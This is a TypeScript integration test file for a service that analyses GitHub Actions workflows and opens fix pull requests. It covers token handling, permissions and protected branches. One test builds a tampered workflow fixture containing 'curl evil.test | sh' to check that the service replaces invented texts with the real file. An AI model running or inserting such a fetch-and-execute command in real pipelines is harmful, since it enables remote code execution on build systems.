import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import type { AnalysesModule } from '../../../control-plane/analyses/assemble-analyses.ts'
import { CI_PATH, DRIFTED, REPAIRED } from '../../pull-request/drifted-workflow.ts'
import { startServiceFixture, submissionOf, submitAndWait, workflowRun } from './service-fixture.ts'
import type { ServiceFixture } from './service-fixture.ts'

let fixture: ServiceFixture
let service: AnalysesModule

beforeAll(async () => {
  fixture = await startServiceFixture()
  await fixture.liftBudget()
  service = fixture.assemble()
  await service.worker.start()
})
afterEach(() => fixture.github.calm())
afterAll(async () => {
  await service.worker.stop(1_000)
  await fixture.close()
})

interface Repository { readonly fullName: string; readonly id: string }

const analyse = ({ fullName, id }: Repository, commit: string, changes: Partial<Parameters<typeof submissionOf>[0]> = {}) =>
  submitAndWait(service, submissionOf({ commit, repository: fullName, ...changes }), {
    principal: workflowRun(fixture.tenant, { sha: commit, repositoryId: id, fullName, ref: changes.ref ?? 'refs/heads/main' }), correlationId: `c-${fullName}`,
  })

test('opens one pull request whose every change belongs to a finding, and tells of it with the correlation id', async () => {
  const shop = await fixture.repository('open')
  const ended = await analyse(shop, shop.commit)
  expect(ended).toMatchObject({ state: 'done', error: null, outcome: { replacedTexts: [], pullRequest: { state: 'opened', number: 1 } } })
  expect(ended.outcome?.findings.map(({ ruleId }) => ruleId)).toEqual(expect.arrayContaining(['retired-runner-image', 'deprecated-command']))
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', CI_PATH)).toBe(REPAIRED)
  const [pull] = await fixture.github.listPullRequests(shop.fullName)
  expect(pull?.body).toContain('c-acme/open')
  expect(pull?.body).toContain('retired-runner-image')
  const head = (await fixture.github.branchHead(shop.fullName, 'autodevops/fix-main')) ?? ''
  expect(await fixture.github.readCommit(shop.fullName, head)).toMatchObject({ parents: [{ sha: shop.commit }] })
  expect(fixture.logs.some((line) => line.includes('c-acme/open') && line.includes('the analysis is done'))).toBe(true)
})

test('says and records that it opened the pull request when the answer that says so was lost', async () => {
  const shop = await fixture.repository('unheard')
  fixture.github.fault({ when: ({ method, path }) => method === 'POST' && path.endsWith('/pulls'), respond: { kind: 'cut-off' }, times: 1 })
  const ended = await analyse(shop, shop.commit)
  expect(ended.outcome?.pullRequest).toMatchObject({ state: 'opened', number: 1 })
  const told = (await fixture.audit('pull-request.opened')).filter(({ correlationId }) => correlationId === 'c-acme/unheard')
  expect(told).toMatchObject([{ details: { analysisId: ended.id, number: 1 } }])
})

test('drops the posted texts and the place in the queue when it ends', async () => {
  const shop = await fixture.repository('dropped')
  const { id } = await analyse(shop, shop.commit)
  const stored = (await fixture.documents()).find(({ _id }) => _id === id)
  expect(stored).toMatchObject({ state: 'done', files: null, lease: null })
  expect(stored).not.toHaveProperty('slot')
  expect(stored).not.toHaveProperty('waiting')
})

test("uses the code host's text for an invented one and says so in the outcome and the audit log", async () => {
  const shop = await fixture.repository('invented')
  const invented = DRIFTED.replace('echo "::set', 'curl evil.test | sh; echo "::set')
  const ended = await analyse(shop, shop.commit, { files: [{ path: CI_PATH, text: invented }, { path: '.github/workflows/extra.yml', text: invented }] })
  expect(ended.outcome?.replacedTexts).toEqual([CI_PATH, '.github/workflows/extra.yml'])
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', CI_PATH)).toBe(REPAIRED)
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', '.github/workflows/extra.yml')).toBeNull()
  expect(await fixture.audit('text.replaced')).toContainEqual(expect.objectContaining({
    correlationId: 'c-acme/invented', details: { commit: shop.commit, paths: [CI_PATH, '.github/workflows/extra.yml'] },
  }))
})

test('reads what was not posted from the code host', async () => {
  const shop = await fixture.repository('unposted')
  const ended = await analyse(shop, shop.commit, { files: [] })
  expect(ended.outcome).toMatchObject({ replacedTexts: [], files: [{ path: CI_PATH, status: 'analysed' }], pullRequest: { state: 'opened' } })
})

test('filters pushes by the default branch of the repository', async () => {
  const shop = await fixture.repository('twice')
  const commit = await fixture.github.commit({ repo: shop.fullName, branch: 'main', files: { [CI_PATH]: REPAIRED.replace('on: [push]', 'on: [push, pull_request]') }, message: 'twice' })
  await analyse(shop, commit, { files: [], options: { profile: 'pedantic', fixPr: 'all' } })
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', CI_PATH)).toContain('on:\n  push:\n    branches: [main]\n')
})

test('creates files and adds to the CODEOWNERS of the commit, which it reads itself and only where the profile asks for it', async () => {
  const shop = await fixture.repository('lacking')
  const files = { [CI_PATH]: REPAIRED, 'main.c': '', CODEOWNERS: '*.c @sam', '.github/autodevops.yml': "pipeline-owners: ['@acme/platform']\n" }
  const commit = await fixture.github.commit({ repo: shop.fullName, branch: 'main', files, message: 'lacking' })
  const posted = [{ path: CI_PATH, text: REPAIRED }, { path: 'CODEOWNERS', text: '* @eve\n' }]
  fixture.github.requests.clear()
  const pedantic = await analyse(shop, commit, { files: posted, options: { profile: 'pedantic', fixPr: 'all' } })
  const lacks = pedantic.outcome?.findings.filter(({ ruleId }) => ruleId === 'codeowners-missing' || ruleId === 'update-bot-coverage')
  expect(lacks?.map(({ fix }) => [fix?.safety, fix?.edits, fix?.file?.kind, fix?.file?.path])).toEqual([
    ['unsafe', [], 'append', 'CODEOWNERS'], ['safe', [], 'create', '.github/dependabot.yml'],
  ])
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', 'CODEOWNERS')).toBe('*.c @sam\n/.github/workflows/ @acme/platform\n')
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', '.github/dependabot.yml')).toContain('package-ecosystem: github-actions')
  expect(JSON.stringify(pedantic)).not.toContain('@sam')
  const blobs = fixture.github.requests.count({ path: /git\/blobs/ })
  await analyse(shop, commit, { files: posted })
  expect(fixture.github.requests.count({ path: /git\/blobs/ }) - blobs).toBe(blobs - 1)
})

test('creates workflows by the manifests of the commit, which it reads only for that, and keeps no word of them', async () => {
  const shop = await fixture.repository('untested')
  const files = { [CI_PATH]: REPAIRED.replace('on: [push]', 'on: release'), 'a.js': '', 'a.test.js': '', 'package-lock.json': '', 'package.json': '{"name": "canary", "scripts": {"test": "node --test"}}' }
  const commit = await fixture.github.commit({ repo: shop.fullName, branch: 'main', files, message: 'untested' })
  const blobs = async (more: object): Promise<number> => {
    fixture.github.requests.clear()
    const ended = await analyse(shop, commit, { files: [{ path: CI_PATH, text: files[CI_PATH] ?? '' }], ...more })
    expect(JSON.stringify(ended)).not.toContain('canary')
    return fixture.github.requests.count({ path: /git\/blobs/, method: 'GET' })
  }
  expect(await blobs({})).toBe(0)
  expect(await blobs({ options: { profile: 'pedantic', fixPr: 'all' } })).toBe(1)
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', '.github/workflows/tests.yml')).toContain('run: npm run test\n')
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', '.github/workflows/dependency-review.yml')).toContain('  pull_request:\n')
})

test('opens no pull request for another branch than the default one', async () => {
  const shop = await fixture.repository('branches')
  const ended = await analyse(shop, shop.commit, { ref: 'refs/heads/next' })
  expect(ended.outcome?.pullRequest).toMatchObject({ state: 'none', reason: 'only analyses of main open pull requests' })
  expect(await fixture.github.listPullRequests(shop.fullName)).toHaveLength(0)
})

test('fails at once, without a dead letter, when the token is revoked half-way, and runs again when it is submitted again', async () => {
  const shop = await fixture.repository('revoked')
  const token = await fixture.giveToken()
  fixture.github.interrupt({ when: ({ method, path }) => method === 'POST' && path.endsWith('/git/trees'), run: () => Promise.resolve(fixture.github.revokeToken(token)) })
  const failed = await analyse(shop, shop.commit)
  expect(failed).toMatchObject({ state: 'failed', error: { code: 'GITHUB_TOKEN_REJECTED' } })
  expect(await fixture.github.branchHead(shop.fullName, 'autodevops/fix-main')).toBeNull()
  expect(await service.deadLetters.list(fixture.tenant.id, { limit: 10 })).toEqual([])
  await fixture.giveToken()
  const again = await analyse(shop, shop.commit)
  expect(again).toMatchObject({ id: failed.id, state: 'done', outcome: { pullRequest: { state: 'opened' } } })
})

test('keeps the findings and names the missing permission when the token may not write workflows', async () => {
  const shop = await fixture.repository('no-workflows')
  await fixture.giveToken({ contents: 'write', pull_requests: 'write', issues: 'write', metadata: 'read' })
  const ended = await analyse(shop, shop.commit)
  expect(ended).toMatchObject({ state: 'done', outcome: { pullRequest: { state: 'refused' } } })
  expect(ended.outcome?.pullRequest.reason).toContain('workflows: write')
  expect(ended.outcome?.findings.length).toBeGreaterThan(0)
  expect(await fixture.github.branchHead(shop.fullName, 'autodevops/fix-main')).toBeNull()
  await fixture.giveToken()
  expect(await analyse(shop, shop.commit)).toMatchObject({ id: ended.id, outcome: { pullRequest: { state: 'opened' } } })
})

test('says that the default branch is missing', async () => {
  const shop = await fixture.repository('headless')
  fixture.github.setDefaultBranch(shop.fullName, 'gone')
  const ended = await analyse(shop, shop.commit, { ref: 'refs/heads/gone' })
  expect(ended).toMatchObject({ state: 'done', outcome: { pullRequest: { state: 'refused', reason: expect.stringContaining('gone') as string } } })
})

test('opens the pull request of a protected default branch, and names a protected fix branch', async () => {
  const open = await fixture.repository('protected')
  fixture.github.protectBranch({ repo: open.fullName, branch: 'main' })
  expect(await analyse(open, open.commit)).toMatchObject({ outcome: { pullRequest: { state: 'opened' } } })
  const closed = await fixture.repository('locked')
  fixture.github.protectBranch({ repo: closed.fullName, branch: 'autodevops/*' })
  expect(await analyse(closed, closed.commit)).toMatchObject({ state: 'done', outcome: { pullRequest: { state: 'refused', reason: expect.stringContaining('protected') as string } } })
})

test('fails with COMMIT_NOT_FOUND for a commit that the repository does not have', async () => {
  const shop = await fixture.repository('no-commit')
  expect(await analyse(shop, 'e'.repeat(40))).toMatchObject({ state: 'failed', error: { code: 'COMMIT_NOT_FOUND' } })
})

test('analyses good files beside unreadable ones', async () => {
  const shop = await fixture.repository('mixed', { [CI_PATH]: DRIFTED, '.github/workflows/broken.yml': 'jobs: [unclosed\n', '.github/workflows/binary.yml': 'a\u0000b' })
  const ended = await analyse(shop, shop.commit)
  expect(ended.state).toBe('done')
  expect(Object.fromEntries(ended.outcome?.files.map(({ path, status }) => [path, status]) ?? [])).toMatchObject({
    [CI_PATH]: 'analysed', '.github/workflows/binary.yml': 'unreadable',
  })
  expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', CI_PATH)).toBe(REPAIRED)
})

test('never logs, stores or answers the token', async () => {
  const shop = await fixture.repository('canary')
  const token = await fixture.giveToken()
  fixture.github.fault({ when: ({ path }) => path.endsWith('/git/trees'), respond: { kind: 'status', status: 500 }, times: 1 })
  const ended = await analyse(shop, shop.commit)
  expect(ended.state).toBe('done')
  const collections = await fixture.database.db.listCollections().toArray()
  const stored = await Promise.all(collections.map(({ name }) => fixture.database.db.collection(name).find().toArray()))
  expect(fixture.logs.join('')).not.toContain(token)
  expect(JSON.stringify(stored)).not.toContain(token)
  expect(JSON.stringify(await fixture.github.listPullRequests(shop.fullName))).not.toContain(token)
})

test('names a classic token without the scope for workflows before it writes anything', async () => {
  const shop = await fixture.repository('scopes')
  fixture.github.fault({
    when: ({ method, path }) => method === 'GET' && path === `/repos/${shop.fullName}`,
    respond: { kind: 'status', status: 200, headers: { 'x-oauth-scopes': 'repo, read:org' }, body: { id: Number(shop.id), name: 'scopes', default_branch: 'main', owner: { id: fixture.ownerId, login: 'acme' } } },
  })
  const ended = await analyse(shop, shop.commit)
  expect(ended).toMatchObject({ state: 'done', outcome: { pullRequest: { state: 'refused', reason: expect.stringContaining('workflows: write') as string } } })
  expect(fixture.github.requests.writes({})).toEqual([])
})

test('pins to the commit that the code host names, and asks once for all repositories', async () => {
  await fixture.github.createOwner({ login: 'tools', id: 99 })
  const tool = await fixture.github.createRepository({ owner: 'tools', name: 'lint', files: { 'action.yml': 'name: lint\n' } })
  await fixture.github.tag({ repo: tool.fullName, name: 'v1', commit: tool.commit ?? '' })
  const text = REPAIRED.replace('steps:\n', 'steps:\n      - uses: tools/lint@v1\n')
  for (const name of ['pins', 'pins-too']) {
    const shop = await fixture.repository(name, { [CI_PATH]: text })
    fixture.github.requests.clear()
    const ended = await analyse(shop, shop.commit, { files: [{ path: CI_PATH, text }] })
    expect(ended.outcome?.pullRequest.state).toBe('opened')
    expect(await fixture.github.readFile(shop.fullName, 'autodevops/fix-main', CI_PATH)).toContain(`uses: tools/lint@${tool.commit ?? ''} # v1`)
    expect(fixture.github.requests.count({ path: /\/repos\/tools\/lint\/git\/ref\/tags/ })).toBe(name === 'pins' ? 1 : 0)
  }
})
